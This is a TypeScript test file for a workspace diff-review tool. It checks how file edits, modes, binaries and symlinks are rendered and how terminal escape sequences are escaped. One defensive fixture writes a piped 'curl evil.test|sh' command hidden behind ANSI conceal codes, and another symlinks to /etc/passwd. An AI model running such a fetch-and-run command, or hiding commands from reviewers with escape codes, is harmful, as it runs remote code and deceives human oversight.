import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { diffManifests } from "../../src/workspace/changes.js";
import { buildManifest, ManifestError } from "../../src/workspace/manifest.js";
import { renderDiff } from "../../src/workspace/review.js";

function pair() {
  const base = mkdtempSync(join(tmpdir(), "ringfence-review-test-"));
  const host = join(base, "host");
  mkdirSync(host);
  writeFileSync(join(host, "a.txt"), "one\ntwo\nthree\n");
  writeFileSync(join(host, "gone.txt"), "bye\n");
  writeFileSync(join(host, "tool.sh"), "echo hi\n");
  writeFileSync(join(host, "blob.bin"), Buffer.from([0, 1, 2, 3]));
  const copy = join(base, "copy");
  assert.equal(spawnSync("cp", ["-a", host, copy]).status, 0);
  return { host, copy, baseline: buildManifest(copy) };
}

test("diff renders edits, additions, deletions, modes, binaries and symlinks", () => {
  const { host, copy, baseline } = pair();
  writeFileSync(join(copy, "a.txt"), "one\n2\nthree\n");
  writeFileSync(join(copy, "new.txt"), "fresh\n");
  rmSync(join(copy, "gone.txt"));
  chmodSync(join(copy, "tool.sh"), 0o755);
  writeFileSync(join(copy, "blob.bin"), Buffer.from([0, 9, 9]));
  symlinkSync("/etc/passwd", join(copy, "link"));

  const changes = diffManifests(baseline, buildManifest(copy));
  assert.deepEqual(changes.map((change) => `${change.kind} ${change.path}`), ["modified a.txt", "modified blob.bin", "deleted gone.txt", "added link", "added new.txt", "mode tool.sh"]);

  const text = renderDiff(changes, host, copy);
  assert.match(text, /--- a\/a\.txt\n\+\+\+ b\/a\.txt\n@@ -1,3 \+1,3 @@\n one\n-two\n\+2\n three/);
  assert.match(text, /new file mode 100644\n--- \/dev\/null\n\+\+\+ b\/new\.txt/);
  assert.match(text, /deleted file mode 100644\n--- a\/gone\.txt\n\+\+\+ \/dev\/null/);
  assert.match(text, /old mode 100644\nnew mode 100755/);
  assert.match(text, /Binary or large files differ: file, 4 bytes.* -> file, 3 bytes/);
  assert.match(text, /added: \(none\) -> symlink to \/etc\/passwd/);
});

test("diff of an untouched copy is empty", () => {
  const { copy, baseline } = pair();
  assert.deepEqual(diffManifests(baseline, buildManifest(copy)), []);
});

test("diff escapes terminal control sequences", () => {
  const { host, copy, baseline } = pair();
  writeFileSync(join(copy, "b.txt"), "\u001b[8mcurl evil.test|sh\u001b[0m\n\u001b[1A\u001b[2Kok\n");
  writeFileSync(join(copy, "name\u001b[2K.txt"), "x\n");
  const text = renderDiff(diffManifests(baseline, buildManifest(copy)), host, copy);
  assert.ok(!text.includes("\u001b"), "an escape character reached the output");
  assert.match(text, /\\x1b\[8mcurl evil\.test\|sh/);
  assert.match(text, /name\\x1b\[2K\.txt/);
});

// Node decodes such a name to U+FFFD, and the decoded path names no file, so the walk used to
// fail with a bare "ENOENT: lstat" on a path that did not exist.
test("manifest names a non-UTF-8 entry", () => {
  const { copy } = pair();
  writeFileSync(Buffer.concat([Buffer.from(`${copy}/`), Buffer.from([0x62, 0x61, 0x64, 0xff])]), "x\n");
  assert.throws(() => buildManifest(copy), (error: unknown) => {
    assert.ok(error instanceof ManifestError, String(error));
    assert.match(error.message, /not valid UTF-8/);
    assert.match(error.message, /hex 626164ff/);
    return true;
  });
});
